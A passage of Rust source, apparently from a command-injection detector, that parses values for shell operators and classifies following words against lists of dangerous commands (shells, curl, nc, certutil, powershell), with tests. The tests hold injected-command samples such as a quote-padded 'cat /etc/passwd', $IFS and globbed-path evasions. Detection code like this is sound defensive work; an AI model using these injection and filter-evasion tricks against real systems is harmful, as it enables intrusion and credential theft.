        return (Some(()), i + 1);
    }
    let mut q: Option<u8> = None;
    while i < b.len() && buf.len() < cap {
        let c = b[i];
        if let Some(open) = q {
            // Quoted text is taken as it is, up to the closing quote, in one copy (and no
            // further than the cap).
            let limit = (i + cap - buf.len()).min(b.len());
            let (end, closed) = quoted_run(s, i, open, limit);
            let run = &s[i..end];
            if head {
                if let Some(space) = run.find(' ') {
                    buf.push_str(&run[..space]);
                    break;
                }
            }
            buf.push_str(run);
            i = end;
            if closed {
                q = None;
                i += 1;
            }
            continue;
        } else {
            match c {
                b'\'' | b'"' => {
                    q = Some(c);
                    i += 1;
                    continue;
                }
                b'\\' if i + 1 < b.len() => {
                    i += 1;
                }
                b'$' if s[i..].starts_with("${IFS}") || s[i..].starts_with("$IFS") => break,
                b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'0'..=b'9')) => {
                    i += 2;
                    continue;
                }
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'`' | b'(' | b')' | b'<'
                | b'>' => break,
                _ => {}
            }
        }
        // Most words are ASCII: a byte is its character.
        // (`b[i]`, not `c`: after a `\` it is the escaped byte.)
        let ch = if b[i].is_ascii() {
            char::from(b[i])
        } else {
            s[i..].chars().next().unwrap_or(' ')
        };
        if head && ch == ' ' {
            break;
        }
        buf.push(ch);
        i += ch.len_utf8();
    }
    (if buf.is_empty() { None } else { Some(()) }, i)
}

/// What `word_until(s, i, _, true)` reads from `i` when all it reads is ASCII and the word is
/// not a brace expansion, a redirection or `$IFS`: written to `out`, and its length returned
/// (0 where `word_until` finds no word). `None` for any other word, which `word_until` reads.
/// Written to a fixed buffer a byte at a time: most heads read after operators are rejected,
/// and building each in a `String` cost as much as the rest of the judgment.
fn ascii_head(b: &[u8], mut i: usize, out: &mut [u8; NAME_CAP + 1]) -> Option<usize> {
    let ifs = |at: usize| {
        b.get(at + 1..)
            .is_some_and(|rest| rest.starts_with(b"{IFS}") || rest.starts_with(b"IFS"))
    };
    while matches!(b.get(i), Some(b' ' | b'\t' | b'\r')) {
        i += 1;
    }
    match b.get(i) {
        Some(b'#') | None => return Some(0),
        Some(b'>' | b'<') => return None,
        Some(b'$') if ifs(i) => return None,
        Some(b'{') => {
            let close = memchr::memchr(b'}', &b[i..(i + WORD_CAP).min(b.len())]);
            if let Some(e) = close {
                let inner = &b[i + 1..i + e];
                if inner.contains(&b',') && !inner.contains(&b' ') {
                    return None;
                }
            }
        }
        _ => {}
    }
    let mut len = 0;
    let mut q: Option<u8> = None;
    while i < b.len() && len < out.len() {
        let mut c = b[i];
        if !c.is_ascii() {
            return None;
        }
        match q {
            Some(open) if c == open => {
                q = None;
                i += 1;
                continue;
            }
            // Quoted text is taken as it is; in the head, up to its first space.
            Some(_) if c == b' ' => break,
            Some(_) => {}
            None => match c {
                b'\'' | b'"' => {
                    q = Some(c);
                    i += 1;
                    continue;
                }
                b'\\' if i + 1 < b.len() => {
                    i += 1;
                    c = b[i];
                    if !c.is_ascii() {
                        return None;
                    }
                    if c == b' ' {
                        break;
                    }
                }
                b'$' if ifs(i) => break,
                b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'0'..=b'9')) => {
                    i += 2;
                    continue;
                }
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'`' | b'(' | b')' | b'<'
                | b'>' => break,
                _ => {}
            },
        }
        out[len] = c;
        len += 1;
        i += 1;
    }
    Some(len)
}

/// Quoted text from `i` (inside `open` quotes): where it ends, and whether the closing quote
/// is there. Characters that start before `limit` are read.
fn quoted_run(s: &str, i: usize, open: u8, limit: usize) -> (usize, bool) {
    let b = s.as_bytes();
    match memchr::memchr(open, &b[i..limit.max(i)]) {
        Some(p) => (i + p, true),
        None => {
            let mut end = limit.max(i);
            while !s.is_char_boundary(end) {
                end += 1;
            }
            (end, false)
        }
    }
}

fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'=' || c == b'/' || c == b'.'
}

pub fn detect(value: &str, strictness: Strictness) -> Option<Found> {
    detect_within(value, strictness, &mut Allowance::unlimited())
}

/// `detect`, judging no more operators than `allowance` has (for the three readings together).
pub fn detect_within(
    value: &str,
    strictness: Strictness,
    allowance: &mut Allowance,
) -> Option<Found> {
    if !value
        .bytes()
        .any(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`' | b'$'))
    {
        return None;
    }
    let strict = strictness == Strictness::Sink;
    let blanked = if strict {
        None
    } else {
        markdown_blanked(value)
    };
    let text = blanked.as_deref().unwrap_or(value);
    // Pasted bare, or inside the command's single or double quotes (the value's first quote
    // of that kind then closes them).
    for quote in [None, Some(b'\''), Some(b'"')] {
        if let Some(q) = quote {
            if !text.as_bytes().contains(&q) {
                continue;
            }
        }
        if let Some(at) = in_context_reading(text, quote, strict, true, allowance) {
            return Some(found(value, at, "a shell operator followed by a command"));
        }
    }
    None
}

/// The value is itself a command line (`python -m venv .venv && source ...`), as pasted in
/// documentation or chat, rather than an argument with a command appended to it.
fn is_command_line(value: &str) -> bool {
    // Only as far as a command name can go: a value with no blank in its first bytes (a run of
    // `;exec` from end to end) was split whole to find its first word.
    let v = value.trim_start();
    let Some((at, blank)) = v
        .char_indices()
        .take_while(|&(i, _)| i <= NAME_CAP)
        .find(|(_, c)| c.is_whitespace())
    else {
        return false;
    };
    command(&v.as_bytes()[..at]).is_some() && !v[at + blank.len_utf8()..].trim_start().is_empty()
}

/// Where an operator in `value`, pasted bare or inside `quote`, is followed by a command
/// (judging no more operators than `allowance` has). `shortcuts`: whether a word after an
/// operator is read only as far as its
/// judgment needs (first as far as a command name can go; not again when it is a plain word
/// that ends where a shell word ends), and what comes before operators once. The tests
/// compare both ways.
fn in_context_reading(
    value: &str,
    quote: Option<u8>,
    strict: bool,
    shortcuts: bool,
    allowance: &mut Allowance,
) -> Option<usize> {
    let command_line = !strict && quote.is_none() && is_command_line(value);
    // What comes before the first operator: one token (a file name, an id) is where an
    // injected command is appended; words are prose.
    let single_token_prefix = |at: usize| !value[..at].trim().contains(char::is_whitespace);
    // Once words come before an operator, they come before every later one: a value with a
    // newline every few bytes after a long first word is not read again from its start at
    // each (that was quadratic).
    let mut words_before = false;
    // The command word and its argument, in buffers of the thread's (an allocation per value
    // with an operator was 2 % of 8-byte values' time); given back below.
    let (mut cmd, mut arg) = WORDS.with_borrow_mut(std::mem::take);
    cmd.clear();
    arg.clear();
    // Set when the allowance ran out: the scan then stops at a position no hit has.
    let mut stopped = false;
    let hit = separators(value, quote, strict, |sep, at, after| {
        let b = value.as_bytes();
        // Past blanks, where the command word starts.
        let mut start = after;
        while matches!(b.get(start), Some(b' ' | b'\t')) {
            start += 1;
        }
        // A command starts with a letter, a path, a quote, an escape or an expansion.
        let first = b.get(start).copied();
        let starts_command = first.is_some_and(|c| {
            c.is_ascii_alphabetic() || matches!(c, b'/' | b'.' | b'\\' | b'{' | b'\'' | b'"')
        });
        // `$` starts one only through expansions that vanish (`$IFS`, `$@`, `$1`).
        let vanishing = first == Some(b'$')
            && matches!(
                b.get(start + 1),
                Some(b'{' | b'I' | b'@' | b'*' | b'0'..=b'9')
            );
        if !starts_command && !vanishing {
            return None;
        }
        // The common case needs no unquoting: a plain run of name bytes that is not a
        // command ends the matter here, most often at the name's first two letters (from
        // its last `/`), without a call.
        let mut plain_len = 0;
        let mut name_from = 0;
        while plain_len < 49 {
            match b.get(start + plain_len) {
                Some(b'/') => name_from = plain_len + 1,
                Some(&c) if c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-') => {}
                _ => break,
            }
            plain_len += 1;
        }
        let plain_end = b.get(start + plain_len).copied();
        let needs_unquoting = matches!(
            plain_end,
            Some(b'\'' | b'"' | b'\\' | b'$' | b'{' | b'?' | b'*' | b'[')
        ) || b.get(start) == Some(&b'{');
        let plain = &value[start..start + plain_len];
        // `command(plain)`, with what it would find again known here.
        let plain_shape = if needs_unquoting
            || plain_len == 0
            || plain_len > NAME_CAP
            || !may_name_command(&b[start + name_from..start + plain_len])
        {
            None
        } else {
            command_named(&b[start + name_from..start + plain_len])
        };
        if !needs_unquoting && plain_len > 0 && plain_shape.is_none() {
            let strict_hit = strict
                && matches!(sep, Sep::Hard | Sep::Substitution)
                && plain
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'/' | b'.'));
            return strict_hit.then_some(at);
        }
        // A plain word that ends where a shell word ends (`;cat;`) is the command word as the
        // shell reads it: nothing to unquote, expand or read again.
        let whole_plain = shortcuts
            && plain_shape.is_some()
            && plain_len < 49
            && matches!(
                b.get(start + plain_len),
                None | Some(
                    b' ' | b'\t'
                        | b'\r'
                        | b'\n'
                        | b';'
                        | b'|'
                        | b'&'
                        | b'`'
                        | b'('
                        | b')'
                        | b'<'
                        | b'>'
                )
            );
        // After a newline in text (words came before it), only a dangerous command counts:
        // one of any other shape is told from its plain name, as the judgment would tell it.
        // A script has a command on most lines.
        if whole_plain
            && !strict
            && sep == Sep::Newline
            && words_before
            && plain_shape.is_some_and(|shape| shape != Shape::Dangerous)
        {
            return None;
        }
        // A word that starts with a quote (`"e",` in a list of strings, one per line) names no
        // command more often than not: told from its head, at the cost of a plain word.
        if shortcuts && !strict && matches!(b.get(start), Some(b'\'' | b'"')) {
            let mut head = [0u8; NAME_CAP + 1];
            if let Some(len) = ascii_head(b, start, &mut head) {
                if !allowance.glance() {
                    stopped = true;
                    return Some(usize::MAX);
                }
                let head = &head[..len];
                let named = command(head);
                if head.first() != Some(&b'/') && (len > NAME_CAP || named.is_none()) {
                    return None;
                }
            }
        }
        // What follows reads the word (through quotes, braces and escapes) and the argument
        // after it: a judgment, which the allowance counts. The cheap dismissals above read
        // only the operator's own plain word (free) or a short quoted one (a glance).
        if !allowance.take() {
            stopped = true;
            return Some(usize::MAX);
        }
        let (next, expanded, glob_path, shape) = if whole_plain {
            cmd.clear();
            cmd.push_str(plain);
            (start + plain_len, None, false, plain_shape)
        } else {
            // Most words after an operator name no command: only what can name one is read
            // first, so that quoted text after them (`x; a'...'`) is not copied. The glob paths
            // and the strict mode's plain words are judged on the whole word.
            if shortcuts && !strict {
                let mut head = [0u8; NAME_CAP + 1];
                let head = match ascii_head(b, after, &mut head) {
                    Some(len) => &head[..len],
                    None => {
                        word_until(value, after, &mut cmd, true).0?;
                        cmd.as_bytes()
                    }
                };
                let glob_may_follow = head.first() == Some(&b'/');
                let named = command(head);
                if head.is_empty() || !glob_may_follow && (head.len() > NAME_CAP || named.is_none())
                {
                    return None;
                }
            }
            let (has_cmd, next) = word(value, after, &mut cmd);
            has_cmd?;
            // Brace expansion gave `cat /etc/passwd` as one word.
            let expanded = cmd
                .split_once(' ')
                .map(|(c, a)| (c.to_string(), a.to_string()));
            if let Some((c, _)) = &expanded {
                cmd = c.clone();
            }
            // `/???/??t`: a path spelled with globs runs whatever it matches, a way past
            // filters that look for command names.
            let glob_path = cmd.starts_with('/')
                && cmd.contains(['?', '*'])
                && cmd.bytes().all(|c| {
                    matches!(c, b'/' | b'?' | b'*' | b'[' | b']') || c.is_ascii_alphanumeric()
                });
            let shape = if glob_path {
                Some(Shape::Dangerous)
            } else {
                command(cmd.as_bytes())
            };
            (next, expanded, glob_path, shape)
        };
        let Some(shape) = shape else {
            let plain = cmd
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'/' | b'.'));
            if strict && matches!(sep, Sep::Hard | Sep::Substitution) && plain {
                return Some(at);
            }
            return None;
        };
        let arg = match &expanded {
            Some((_, a)) => {
                arg.clone_from(a);
                Some(arg.as_str())
            }
            None => word(value, next, &mut arg).0.map(|_| arg.as_str()),
        };
        let fits = match (shape, arg) {
            // Alone, only a shell or interpreter does something (`| sh`); `exec`, `sudo` or
            // `base64` with nothing after them are no-ops (and `exec()` defines a function).
            (Shape::Dangerous, None) => {
                // A plain loop, as in `command`: `rsplit` cost more than the rest of this arm.
                let name = match cmd.bytes().rposition(|c| c == b'/') {
                    Some(at) => &cmd[at + 1..],
                    None => cmd.as_str(),
                };
                let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                matches!(
                    base,
                    "sh" | "bash"
                        | "zsh"
                        | "dash"
                        | "ksh"
                        | "csh"
                        | "tcsh"
                        | "ash"
                        | "busybox"
                        | "python"
                        | "perl"
                        | "ruby"
                        | "php"
                        | "node"
                        | "lua"
                        | "powershell"
                        | "pwsh"
                        | "cmd"
                ) && !value[next..].trim_start().starts_with('(')
            }
            (Shape::Alone, None) => true,
            (_, Some(a)) => shell_shaped(a) || (shape == Shape::Alone && a.starts_with('-')),
            (Shape::Args, None) => false,
        };
        let english = matches!(
            cmd.as_str(),
            "id" | "ls" | "env" | "pwd" | "ps" | "w" | "last" | "dir"
        );
        let unmistakable = arg.is_some_and(|a| a.starts_with(['-', '/', '$']) || a.contains('/'));
        let dangerous_shape =
            shape == Shape::Dangerous && arg.is_some_and(shell_shaped) || glob_path;
        let fits = fits || sep == Sep::Substitution && shape != Shape::Dangerous;
        let counts = fits
            && match sep {
                // A value that is itself a command line (documentation, a CI step) runs its
                // own substitutions: only what no documented command does counts there.
                Sep::Substitution | Sep::Hard if command_line => dangerous_shape,
                Sep::Substitution => true,
                Sep::Hard => true,
                Sep::Soft => {
                    unmistakable
                        || shape == Shape::Dangerous && arg.is_some_and(shell_shaped)
                        || shape == Shape::Alone && arg.is_none() && !english
                }
                Sep::Newline if shortcuts => {
                    dangerous_shape || {
                        words_before = words_before || !single_token_prefix(at);
                        !words_before
                    }
                }
                Sep::Newline => dangerous_shape || single_token_prefix(at),
                Sep::Markdown => false,
            };
        counts.then_some(at)
    });
    // Kept only while small: a word can be as long as the value.
    if cmd.capacity() <= KEPT_WORD && arg.capacity() <= KEPT_WORD {
        WORDS.with_borrow_mut(|words| *words = (cmd, arg));
    }
    hit.filter(|_| !stopped)
}

thread_local! {
    static WORDS: std::cell::RefCell<(String, String)> = const {
        std::cell::RefCell::new((String::new(), String::new()))
    };
}

/// Room a word buffer keeps between values.
const KEPT_WORD: usize = 256;

fn found(value: &str, at: usize, what: &'static str) -> Found {
    Found::new(
        "shell-grammar",
        "command-injection",
        what,
        value,
        at.saturating_sub(8),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `command` as it was, a `match` on the names: the reference.
    fn command_by_match(word: &str) -> Option<Shape> {
        if word.len() > NAME_CAP {
            return None;
        }
        // Words here are short: a plain loop beats a vectorised search's set-up.
        let name = match word.bytes().rposition(|c| c == b'/' || c == b'\\') {
            Some(at) => &word[at + 1..],
            None => word,
        };
        // The two-letter filter first: most words after an operator are not commands.
        let b = name.as_bytes();
        let first = b.first()?.to_ascii_lowercase();
        if !first.is_ascii_lowercase() {
            return None;
        }
        let second = match b.get(1).map(u8::to_ascii_lowercase) {
            Some(c) if c.is_ascii_lowercase() => c - b'a',
            _ => 26,
        };
        if PREFIXES[(first - b'a') as usize] & (1 << second) == 0 {
            return None;
        }
        let name = name.strip_suffix(".exe").unwrap_or(name);
        let mut buf = [0u8; 48];
        let lower = &mut buf[..name.len()];
        lower.copy_from_slice(name.as_bytes());
        lower.make_ascii_lowercase();
        // Windows commands are case-insensitive; POSIX ones are not (`ID` is not `id`).
        match &*lower {
            b"whoami" | b"ipconfig" | b"systeminfo" | b"tasklist" | b"netstat" | b"ifconfig"
            | b"hostname" => return Some(Shape::Alone),
            b"powershell" | b"pwsh" | b"certutil" | b"bitsadmin" | b"wmic" | b"mshta"
            | b"rundll32" | b"regsvr32" | b"cscript" | b"wscript" => return Some(Shape::Dangerous),
            _ => {}
        }
        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let shape_of =
            |base: &str| {
                Some(match base {
                    "id" | "uname" | "ls" | "env" | "printenv" | "pwd" | "ps" | "w" | "last"
                    | "lsof" | "dir" => Shape::Alone,
                    "bash" | "sh" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "ash" | "busybox"
                    | "python" | "perl" | "ruby" | "php" | "node" | "nodejs" | "lua" | "curl"
                    | "wget" | "nc" | "ncat" | "netcat" | "socat" | "telnet" | "mkfifo"
                    | "mknod" | "openssl" | "xterm" | "nslookup" | "tftp" | "ftp" | "scp"
                    | "ssh" | "sudo" | "crontab" | "nohup" | "base64" | "xxd" | "chmod"
                    | "chown" | "useradd" | "awk" | "gawk" | "xargs" | "timeout" | "exec"
                    | "eval" | "cmd" => Shape::Dangerous,
                    "cat" | "tac" | "head" | "tail" | "more" | "less" | "rm" | "cp" | "mv"
                    | "touch" | "echo" | "printf" | "sleep" | "ping" | "dig" | "host" | "kill"
                    | "pkill" | "find" | "grep" | "sed" | "tar" | "zip" | "unzip" | "dd"
                    | "date" | "type" | "net" | "reg" | "whois" | "traceroute" | "tee"
                    | "source" | "export" | "set" | "su" | "passwd" | "wc" | "sort" | "od"
                    | "strings" | "file" | "stat" | "mount" | "ip" | "arp" | "route"
                    | "iptables" | "systemctl" | "service" | "aws" | "java" | "mysql" | "psql"
                    | "sqlite3" | "git" | "nmap" | "cd" | "npm" | "npx" | "yarn" | "pip"
                    | "pip3" | "docker" | "make" | "cargo" | "go" | "kubectl" | "terraform"
                    | "mvn" | "gradle" | "del" | "erase" | "rd" | "rmdir" | "copy" | "move"
                    | "ren" | "attrib" | "icacls" | "takeown" | "schtasks" | "sc" | "taskkill"
                    | "findstr" | "start" | "wevtutil" | "vssadmin" | "bcdedit" => Shape::Args,
                    _ => return None,
                })
            };
        // Changed since: `base64` and `sqlite3` were looked up without their digits only.
        shape_of(name).or_else(|| shape_of(base))
    }

    #[test]
    fn commands_are_looked_up_as_by_the_match_on_their_names() {
        for (name, _, _) in COMMAND_LIST {
            assert!(command(name.as_bytes()).is_some(), "{name}");
        }
        const PIECES: &[&str] = &[
            "c",
            "a",
            "t",
            "s",
            "h",
            "p",
            "y",
            "o",
            "n",
            "3",
            ".",
            "/",
            "\\",
            "E",
            "X",
            "e",
            "x",
            "cat",
            "sh",
            "python",
            "id",
            "ID",
            "Whoami",
            "powershell",
            "wget",
            "cmd",
            "w",
            "ls",
            "rm",
            "go",
            "-",
            "_",
            "é",
        ];
        let found = crate::detect::agrees_with_reference(
            PIECES,
            41,
            60_000,
            61,
            |w| command(w.as_bytes()),
            command_by_match,
            Option::is_some,
        );
        assert!(found > 3_000, "{found}");
    }

    /// `separators` as it was when `$`, `<` and `>` were looked at in their own right: the
    /// reference the `(`-first version must agree with.
    /// Bytes that start an operator, a quote or an escape outside quotes.
    const OLD_SHELL_BYTE: [bool; 256] = {
        let mut t = [false; 256];
        let special = b";|&\n$<>`'\"\\";
        let mut k = 0;
        while k < special.len() {
            t[special[k] as usize] = true;
            k += 1;
        }
        t
    };

    /// Bytes that mean something inside double quotes.
    const OLD_IN_DOUBLE_QUOTES: [bool; 256] = {
        let mut t = [false; 256];
        t[b'"' as usize] = true;
        t[b'\\' as usize] = true;
        t[b'`' as usize] = true;
        t[b'$' as usize] = true;
        t
    };

    /// Where new commands may start: each unquoted operator, in one pass that tracks quotes.
    /// `quote` is the quote the value is pasted inside, if any.
    /// Calls `each(sep, at, after)` for each; stops early when it returns a position.
    fn separators_byte_by_byte(
        s: &str,
        quote: Option<u8>,
        strict: bool,
        mut each: impl FnMut(Sep, usize, usize) -> Option<usize>,
    ) -> Option<usize> {
        let b = s.as_bytes();
        let mut q = quote;
        let mut i = 0;
        let trimmed = s.trim();
        let whole_backticks =
            trimmed.len() > 2 && trimmed.starts_with('`') && trimmed.ends_with('`');
        let fenced = memchr::memmem::find(b, b"```").is_some();
        while i < b.len() {
            // Most bytes mean nothing to the shell: skip them in a tight loop.
            if q.is_none() {
                while i < b.len() && !OLD_SHELL_BYTE[b[i] as usize] {
                    i += 1;
                }
                if i >= b.len() {
                    break;
                }
            }
            // Inside single quotes only the closing quote matters; inside double quotes, escapes
            // and substitutions too. The rest is skipped without a look.
            match q {
                Some(b'"') => {
                    while i < b.len() && !OLD_IN_DOUBLE_QUOTES[b[i] as usize] {
                        i += 1;
                    }
                }
                Some(open) => i = memchr::memchr(open, &b[i..]).map_or(b.len(), |p| i + p),
                None => {}
            }
            if i >= b.len() {
                break;
            }
            let c = b[i];
            if let Some(open) = q {
                if c == open {
                    q = None;
                } else if open == b'"' && c == b'\\' {
                    i += 1;
                } else if open == b'"' && c == b'`' && b.get(i + 1) == Some(&b'`') {
                    // A Markdown fence, never a substitution.
                    while i < b.len() && b[i] == b'`' {
                        i += 1;
                    }
                    continue;
                } else if open == b'"' && (c == b'`' || c == b'$' && b.get(i + 1) == Some(&b'(')) {
                    let len = if c == b'`' { 1 } else { 2 };
                    let quoted_command = i > 0 && b[i - 1] == b'"';
                    let markdown =
                        c == b'`' && !strict && !whole_backticks && !glued(b, i) && !quoted_command;
                    if markdown {
                        if let Some(end) = markdown_span_end(b, i) {
                            i = end;
                            continue;
                        }
                    }
                    let sep = if markdown {
                        Sep::Markdown
                    } else {
                        Sep::Substitution
                    };
                    if may_start_command(b, i + len) {
                        if let Some(hit) = each(sep, i, i + len) {
                            return Some(hit);
                        }
                    }
                    i += len;
                    continue;
                }
                i += 1;
                continue;
            }
            // Of a run of `;` or newlines only the last can be followed by a command: the others
            // are followed by the next one. A value can be such a run from end to end.
            if matches!(c, b';' | b'\n') {
                while b.get(i + 1) == Some(&c) {
                    i += 1;
                }
            }
            let (sep, len) = match c {
                b'\'' | b'"' => {
                    q = Some(c);
                    i += 1;
                    continue;
                }
                b'\\' => {
                    i += 2;
                    continue;
                }
                b';' => (Sep::Hard, 1),
                b'|' => (Sep::Hard, if b.get(i + 1) == Some(&b'|') { 2 } else { 1 }),
                b'&' if b.get(i + 1) == Some(&b'&') => (Sep::Hard, 2),
                // `>&`: a redirection, not a separator
                b'&' if i > 0 && b[i - 1] == b'>' => {
                    i += 1;
                    continue;
                }
                b'&' => (Sep::Soft, 1),
                b'\n' if fenced => (Sep::Markdown, 1),
                b'\n' => (Sep::Newline, 1),
                b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) != Some(&b'(') => {
                    (Sep::Substitution, 2)
                }
                b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Sep::Hard, 2),
                b'`' => {
                    if b.get(i + 1) == Some(&b'`') {
                        while i < b.len() && b[i] == b'`' {
                            i += 1;
                        }
                        continue;
                    }
                    // A code span in Markdown has space or punctuation outside its backticks; a
                    // substitution is glued to a word (`a`id`b`) or is the whole value.
                    if glued(b, i) || whole_backticks || strict {
                        (Sep::Hard, 1)
                    } else {
                        // Markdown code is quoted text: what is inside the span (`a | b`) is
                        // shown, not run.
                        match memchr::memchr(b'`', &b[i + 1..]) {
                            Some(close) => {
                                i += close + 2;
                                continue;
                            }
                            None => (Sep::Markdown, 1),
                        }
                    }
                }
                _ => {
                    i += 1;
                    continue;
                }
            };
            if may_start_command(b, i + len) {
                if let Some(hit) = each(sep, i, i + len) {
                    return Some(hit);
                }
            }
            i += len;
        }
        None
    }

    #[test]
    fn operators_found_at_their_parenthesis_as_at_their_first_byte() {
        const PIECES: &[&str] = &[
            ";", ";;", "|", "||", "&", "&&", ">&", "\n", "`", "``", "```", "$", "(", "((", "$(",
            "$((", "<(", ">(", "<", ">", "'", "\"", "\\", " ", "id", "x", "a=", "\t", "é",
        ];
        let mut calls = 0;
        for v in crate::detect::pieces_joined(PIECES, 9, 30_000, 58) {
            for quote in [None, Some(b'\''), Some(b'"')] {
                for strict in [false, true] {
                    // Every operator, then a stop at the second one.
                    for stop_at in [usize::MAX, 1] {
                        let mut expected = Vec::new();
                        let want = separators_byte_by_byte(&v, quote, strict, |sep, at, after| {
                            expected.push((sep, at, after));
                            (expected.len() > stop_at).then_some(at)
                        });
                        let mut got = Vec::new();
                        let have = separators(&v, quote, strict, |sep, at, after| {
                            got.push((sep, at, after));
                            (got.len() > stop_at).then_some(at)
                        });
                        calls += expected.len();
                        assert_eq!((have, got), (want, expected), "{v:?} {quote:?} {strict}");
                    }
                }
            }
        }
        assert!(calls > 50_000, "{calls}");
    }

    #[test]
    fn reading_a_word_only_as_far_as_needed_changes_no_judgment() {
        // Operators, quotes, escapes, braces, expansions, paths, globs, command names and
        // words longer than any command name, at every position.
        const PIECES: &[&str] = &[
            ";",
            "|",
            "&",
            "&&",
            "\n",
            "`",
            "$(",
            "'",
            "\"",
            "\\",
            " ",
            "\\ ",
            "{",
            "}",
            ",",
            "$IFS",
            "${IFS}",
            "$@",
            "$1",
            "/",
            "/???/",
            "??t",
            "*",
            "cat",
            "ca",
            "t",
            "id",
            "sh",
            "curl",
            "bin",
            "etc/passwd",
            "-la",
            "x",
            "10.0.0.1",
            "#",
            ">",
            "(",
            ")",
            "py",
            "thon3",
            ".exe",
            "WHOAMI",
            "abcdefghijklmnopqrstuvwxyz",
            "0123456789",
            // Lines of text that run a command, dangerous or not.
            "a b\nsh -c ",
            "a b\nmake -j ",
        ];
        let mut hits = 0;
        for v in crate::detect::pieces_joined(PIECES, 3, 30_000, 58) {
            for quote in [None, Some(b'\''), Some(b'"')] {
                for strict in [false, true] {
                    let unlimited = &mut Allowance::unlimited();
                    let whole = in_context_reading(&v, quote, strict, false, unlimited);
                    hits += usize::from(whole.is_some());
                    assert_eq!(
                        in_context_reading(&v, quote, strict, true, unlimited),
                        whole,
                        "{v:?} {quote:?} {strict}"
                    );
                }
            }
        }
        // The generated values reach the judgments, not only the scan.
        assert!(hits > 5_000, "{hits}");
    }

    #[test]
    fn an_ascii_head_is_read_as_word_until_reads_it() {
        const PIECES: &[&str] = &[
            "'",
            "\"",
            "a",
            "cat",
            " ",
            "\t",
            "\r",
            ";",
            ",",
            "/",
            "\\",
            "\\ ",
            "$",
            "$@",
            "$1",
            "$IFS",
            "${IFS}",
            "é",
            "(",
            ")",
            ">",
            "<",
            "x",
            "\n",
            "#",
            "{",
            "}",
            "{a,b}",
            "abcdefghijklmnopqrstuvwxyz",
        ];
        let mut read = 0;
        let mut fallbacks = 0;
        for v in crate::detect::pieces_joined(PIECES, 11, 20_000, 59) {
            let b = v.as_bytes();
            for i in (0..=b.len()).filter(|&i| v.is_char_boundary(i)) {
                let mut head = [0u8; NAME_CAP + 1];
                let Some(len) = ascii_head(b, i, &mut head) else {
                    fallbacks += 1;
                    continue;
                };
                read += 1;
                let mut whole = String::new();
                let (some, _) = word_until(&v, i, &mut whole, true);
                let whole = if some.is_some() {
                    whole.as_bytes()
                } else {
                    b""
                };
                assert_eq!(&head[..len], whole, "{v:?} at {i}");
            }
        }
        // Most positions are read here; the rest (non-ASCII, brace expansions) fall back.
        assert!(read > 200_000 && fallbacks > 10_000, "{read} {fallbacks}");
    }

    #[test]
    fn a_short_command_is_looked_up_as_in_the_list() {
        // The lookup read from the list itself, in lower case.
        fn in_list(name: &str) -> Option<Shape> {
            let name = name.strip_suffix(".exe").unwrap_or(name);
            let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
            let lower = name.to_ascii_lowercase();
            let find = |w: &str| COMMAND_LIST.iter().find(|c| c.0 == w).map(|c| (c.1, c.2));
            match find(&lower) {
                Some((shape, Case::Any)) => return Some(shape),
                Some((shape, Case::Lower)) if lower == name => return Some(shape),
                _ => {}
            }
            if base.len() == name.len() || base.bytes().any(|c| c.is_ascii_uppercase()) {
                return None;
            }
            match find(&lower[..base.len()]) {
                Some((shape, Case::Lower)) => Some(shape),
                _ => None,
            }
        }
        const PIECES: &[&str] = &[
            "cat",
            "CAT",
            "Cat",
            "id",
            "ID",
            "python",
            "3",
            ".12",
            ".",
            ".exe",
            ".EXE",
            "cmd",
            "CMD",
            "wmic",
            "sleep",
            "x",
            "wget",
            "sh",
            "1",
            "_",
            "\0",
            "é",
            "dd",
            "whoami",
            "powershell",
            "PowerShell",
        ];
        let mut named = 0;
        for v in crate::detect::pieces_joined(PIECES, 3, 20_000, 62) {
            if v.len() > NAME_CAP || !may_name_command(v.as_bytes()) {
                continue;
            }
            let expected = in_list(&v);
            named += usize::from(expected.is_some());
            assert_eq!(command_named(v.as_bytes()), expected, "{v:?}");
        }
        assert!(named > 1_000, "{named}");
    }

    #[test]
    fn a_command_line_is_told_from_its_first_word_as_when_split_whole() {
        fn split_whole(value: &str) -> bool {
            let mut words = value.split_whitespace();
            let first = words.next().unwrap_or("");
            command(first.as_bytes()).is_some() && words.next().is_some()
        }
        const PIECES: &[&str] = &[
            " ",
            "\t",
            "\u{a0}",
            "\u{2003}",
            "\n",
            "python",
            "-m",
            "ls",
            "x",
            "é",
            ";",
            "cat",
            "abcdefghijklmnopqrstuvwxyz",
            "/usr/bin/",
        ];
        let reached = crate::detect::agrees_with_reference(
            PIECES,
            17,
            20_000,
            60,
            is_command_line,
            split_whole,
            |&line| line,
        );
        assert!(reached > 1_000, "{reached}");
    }

    #[test]
    fn an_escaped_character_is_read_whole() {
        let mut buf = String::new();
        assert_eq!(word_until("a\\éb;c", 0, &mut buf, false), (Some(()), 5));
        assert_eq!(buf, "aéb");
        assert_eq!(word_until("\\日x", 0, &mut buf, true), (Some(()), 5));
        assert_eq!(buf, "日x");
    }

    #[test]
    fn padding_a_command_with_empty_quotes_does_not_hide_it() {
        // Only what a word says counts towards its cap, not the empty quotes spelling it.
        for pad in ["''", "\"\"", "$@"] {
            let padded = format!("x; c{}at /etc/passwd", pad.repeat(300));
            assert!(detect(&padded, Strictness::Generic).is_some(), "{pad}");
        }
        // A long quoted word is still cut at the cap: it names no command.
        let long = format!("x; '{}' y", "a".repeat(10_000));
        assert!(detect(&long, Strictness::Generic).is_none());
    }

    #[test]
    fn quoted_text_is_read_as_one_character_at_a_time() {
        // How `word` read quoted text before it copied it in one go.
